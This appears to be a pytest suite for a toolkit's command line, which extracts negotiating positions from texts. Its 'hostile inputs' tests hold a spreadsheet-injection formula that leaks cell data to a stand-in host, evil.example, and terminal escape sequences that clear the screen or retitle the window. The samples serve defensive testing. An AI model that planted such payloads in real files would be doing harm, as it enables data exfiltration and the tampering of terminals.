"""The command line: outputs, and errors as one line on stderr with exit code 2."""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from toolkit._io import FORMULA_START, csv_text
from toolkit.cli import main

from .conftest import ROOT

SEED = ROOT / "seeds" / "000_f32b177836f06d03.txt"


def test_extract_writes_csv(tmp_path, capsys):
    out = tmp_path / "statements.csv"
    assert main(["extract", str(SEED), "--out", str(out)]) == 0
    frame = pd.read_csv(out)
    assert {"doc_id", "party", "issue", "option", "polarity", "quote", "start", "end"} <= set(
        frame.columns
    )
    assert len(frame) > 0
    text = SEED.read_text(encoding="utf-8")
    for row in frame.itertuples():
        assert text[row.start : row.end] == row.quote


def test_extract_prints_csv_without_out(capsys):
    assert main(["extract", str(SEED)]) == 0
    assert capsys.readouterr().out.startswith("doc_id,date,sentence,party")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["extract", "missing.txt"], "error: missing.txt: no such file or folder — check the path"),
        (
            ["extract", str(SEED), "--codebook", "nope.yaml"],
            "error: nope.yaml: codebook file not found",
        ),
        (["extract", str(SEED), "--out", str(SEED)], "refusing to write inside seeds/"),
    ],
)
def test_bad_input_is_one_line_and_exit_2(args, message, capsys):
    assert main(args) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and message in err
    assert "Traceback" not in err


def test_output_equal_to_an_input_is_refused(tmp_path, capsys):
    src = tmp_path / "a.txt"
    src.write_text("Kyiv rejected any handover of Donbas.", encoding="utf-8")
    assert main(["extract", str(src), "--out", str(src)]) == 2
    assert "the output path is one of the inputs" in capsys.readouterr().err
    assert src.read_text(encoding="utf-8") == "Kyiv rejected any handover of Donbas."


def test_module_entry_point_runs_in_a_subprocess():
    proc = subprocess.run(
        [sys.executable, "-m", "toolkit", "extract", "nope.txt"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=False,
    )
    assert proc.returncode == 2
    assert proc.stderr.strip() == "error: nope.txt: no such file or folder — check the path"


def test_report_command(tmp_path, capsys):
    out = tmp_path / "r.html"
    assert main(["report", "--out", str(out)]) == 0
    assert out.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    assert "report written to" in capsys.readouterr().out


# --------------------------------------------------------------------------- hostile inputs

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"click")'


def test_no_csv_cell_starts_a_spreadsheet_formula(tmp_path, monkeypatch, capsys):
    """OWASP CSV injection: a doc_id or quote starting with = + - @ tab or CR gets a ' first;
    removing it gives the text back, and the offsets still point at it in the source."""
    body = "@SUM(1) Kyiv rejected any handover of the Donetsk region.\n\n-Moscow demands all of Donbas.\n"
    front = f"---\nid: '{FORMULA}'\ndate: 2025-12-03\n---\n"
    (tmp_path / "doc.md").write_text(front + body, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    assert main(["extract", "doc.md", "--out", "statements.csv"]) == 0
    assert main(["positions", "doc.md", "--out", "positions.csv"]) == 0
    assert main(["extract", "doc.md"]) == 0  # printed, too
    printed = capsys.readouterr().out
    assert printed == (tmp_path / "statements.csv").read_text(encoding="utf-8")
    for name in ("statements.csv", "positions.csv"):
        with (tmp_path / name).open(encoding="utf-8", newline="") as fh:
            rows = list(csv.DictReader(fh))
        text_cells = [v for row in rows for v in row.values() if not _number(v)]
        assert not [c for c in text_cells if c.startswith(FORMULA_START)], name
        coded = [row for row in rows if row["quote"]]
        assert coded, f"precondition: {name} has quotes"
        for row in coded:
            assert row["doc_id"] == "'" + FORMULA
            quote = row["quote"].removeprefix("'")
            assert row["quote"] != quote  # each quote here starts with @ or -
            assert body[int(row["start"]) : int(row["end"])] == quote


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_text_neutralises_each_formula_start(first):
    frame = pd.DataFrame({"quote": [f"{first}1+1", "plain", None], "start": [-3, 0, 1]})
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert rows == [["quote", "start"], [f"'{first}1+1", "-3"], ["plain", "0"], ["", "1"]]


def test_terminal_output_carries_no_control_characters(tmp_path, monkeypatch, capsys):
    """A name or a text with escape sequences is shown escaped: in errors, in warnings, and on
    standard output when it is a terminal (a pipe gets the exact bytes)."""
    name = "\x1b]0;owned\x07\x1b[2J.txt"
    (tmp_path / name).write_text("", encoding="utf-8")  # empty: warned about, by name
    (tmp_path / "b.txt").write_text(
        "Kyiv rejected any handover of the Donetsk \x1b[8mregion.\n", encoding="utf-8"
    )
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    assert main(["extract", name, "b.txt"]) == 0
    captured = capsys.readouterr()
    assert "\x1b" not in captured.out + captured.err and "\x07" not in captured.err
    assert captured.err == (
        "warning: \\x1b]0;owned\\x07\\x1b[2J.txt: the file holds no text; it yields no statements\n"
    )
    assert "the Donetsk \\x1b[8mregion." in captured.out
    monkeypatch.setattr(sys.stdout, "isatty", lambda: False)
    assert main(["extract", "b.txt"]) == 0
    assert "the Donetsk \x1b[8mregion." in capsys.readouterr().out  # data, kept exact


def test_stdout_on_a_full_disk_is_an_error_not_a_traceback(tmp_path):
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full here")
    with open("/dev/full", "w") as full:
        proc = subprocess.run(
            [sys.executable, "-m", "toolkit", "extract", str(SEED)],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            check=False,
        )
    assert proc.returncode == 2
    assert proc.stderr == (
        "error: standard output: cannot write: No space left on device — "
        "free some disk space, or write to a file with --out\n"
    )


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--out", "loop.csv"], "loop.csv: the output path is a loop of symbolic links — "),
        (["loop.csv", "--out", "out.csv"], "loop.csv: the path is a loop of symbolic links — "),
    ],
    ids=["output", "input"],
)
def test_a_symlink_loop_is_an_error(tmp_path, monkeypatch, capsys, args, message):
    (tmp_path / "doc.txt").write_text("Kyiv rejected any handover of Donbas.", encoding="utf-8")
    (tmp_path / "loop.csv").symlink_to("loop.csv")
    monkeypatch.chdir(tmp_path)
    assert main(["extract", "doc.txt", *args]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"error: {message}") and err.count("\n") == 1


def test_a_symlink_loop_as_gold_with_out_is_an_error(tmp_path, monkeypatch, capsys):
    (tmp_path / "doc.txt").write_text("Kyiv rejected any handover of Donbas.", encoding="utf-8")
    (tmp_path / "gold.csv").symlink_to("gold.csv")
    monkeypatch.chdir(tmp_path)
    assert main(["report", "doc.txt", "--gold", "gold.csv", "--out", "r.html"]) == 2
    assert capsys.readouterr().err.startswith(
        "error: gold.csv: the path is a loop of symbolic links — "
    )


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_a_fifo_as_out_is_refused_and_stays_a_fifo(tmp_path, monkeypatch, capsys):
    os.mkfifo(tmp_path / "pipe.csv")
    (tmp_path / "doc.txt").write_text("Kyiv rejected any handover of Donbas.", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    for force in ([], ["--force"]):
        assert main(["extract", "doc.txt", "--out", "pipe.csv", *force]) == 2
        assert "the output path is a device, FIFO or socket" in capsys.readouterr().err
        assert stat.S_ISFIFO((tmp_path / "pipe.csv").stat().st_mode)


def test_force_replaces_a_file_the_toolkit_did_not_write_and_nothing_more(
    tmp_path, monkeypatch, capsys
):
    (tmp_path / "doc.txt").write_text("Kyiv rejected any handover of Donbas.", encoding="utf-8")
    (tmp_path / "old.csv").write_text("my,own,table\n1,2,3\n", encoding="utf-8")
    (tmp_path / "gold.csv").write_text(
        "doc_id,party,issue,option,polarity\ndoc,UA,territory,cede_donbas,oppose\n",
        encoding="utf-8",
    )
    monkeypatch.chdir(tmp_path)
    assert main(["extract", "doc.txt", "--out", "old.csv"]) == 2
    assert "refusing to replace a file the toolkit did not write" in capsys.readouterr().err
    assert main(["extract", "doc.txt", "--out", "old.csv", "--force"]) == 0
    assert (tmp_path / "old.csv").read_text(encoding="utf-8").startswith("doc_id,date,")
    assert main(["extract", "doc.txt", "--out", "old.csv"]) == 0  # now it is the toolkit's own
    for protected in ("gold.csv", "doc.txt"):
        before = (tmp_path / protected).read_bytes()
        assert main(["extract", "doc.txt", "--out", protected, "--force"]) == 2
        assert (tmp_path / protected).read_bytes() == before
    capsys.readouterr()


def test_each_output_the_toolkit_writes_can_be_written_again(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    for argv in (
        ["extract", str(SEED), "--out", "s.csv"],
        ["positions", "--out", "p.csv"],
        ["report", "--out", "r.html"],
    ):
        assert main(argv) == 0
        assert main(argv) == 0, capsys.readouterr().err


def test_report_help_says_where_it_writes():
    proc = subprocess.run(
        [sys.executable, "-m", "toolkit", "report", "--help"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert "default: reports/report.html" in " ".join(proc.stdout.split())


def test_date_dates_the_undated_sources(tmp_path, monkeypatch, capsys):
    (tmp_path / "a.txt").write_text("Moscow demands all of Donbas.\n", encoding="utf-8")
    (tmp_path / "b.md").write_text(
        "---\ndate: 2025-12-05\n---\nKyiv rejected any handover of Donbas.\n", encoding="utf-8"
    )
    monkeypatch.chdir(tmp_path)
    assert main(["extract", "a.txt", "b.md", "--out", "s.csv"]) == 0
    assert "warning: a.txt: no date" in capsys.readouterr().err
    assert main(["extract", "a.txt", "b.md", "--out", "s.csv", "--date", "2025-12-01"]) == 0
    assert "warning" not in capsys.readouterr().err
    dates = pd.read_csv(tmp_path / "s.csv").set_index("doc_id")["date"]
    assert dates.to_dict() == {"a": "2025-12-01", "b": "2025-12-05"}


def test_messages_on_stdout_are_escaped_even_in_a_pipe(tmp_path, monkeypatch, capsys):
    """The report's summary names parties from the codebook: a label written with an escape
    sequence ("\\e[2J" in YAML double quotes) cannot clear the screen of whoever reads it."""
    from .test_codebook import MINIMAL

    (tmp_path / "talks.yaml").write_text(
        MINIMAL.replace("label: Alpha", 'label: "Alpha\\e[2J"'), encoding="utf-8"
    )
    (tmp_path / "doc.txt").write_text("Alpha will keep the land.\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    assert main(["report", "doc.txt", "--codebook", "talks.yaml", "--out", "r.html"]) == 0
    out = capsys.readouterr().out
    assert "A = Alpha\\x1b[2J" in out and "\x1b" not in out
